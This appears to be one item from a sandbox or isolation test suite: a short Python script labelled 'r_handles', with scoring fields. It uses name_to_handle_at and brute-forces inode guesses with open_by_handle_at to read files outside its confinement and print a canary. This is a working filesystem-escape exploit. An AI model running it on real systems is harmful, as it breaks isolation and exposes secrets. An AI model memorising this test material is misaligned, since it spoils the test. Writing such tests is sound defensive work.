# ATTACK: r_handles
# GROUP: read
# GOAL: open by handle: name_to_handle_at, open_by_handle_at, fhandle guessing from the root
# SUCCESS: a secret string is printed
# CHECK: canary
# EARNED: 10
# BASE: honest
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
print(libc.name_to_handle_at(-100, b"@@SECRETS@@", ctypes.byref(handle), ctypes.byref(mount), 0), ctypes.get_errno())
for inode in range(2, 40):
    guess = Handle(8, 1)
    guess.data[0] = inode
    fd = libc.open_by_handle_at(3, ctypes.byref(guess), 0)
    if fd >= 0:
        print("CANARY-handle", os.listdir(fd))
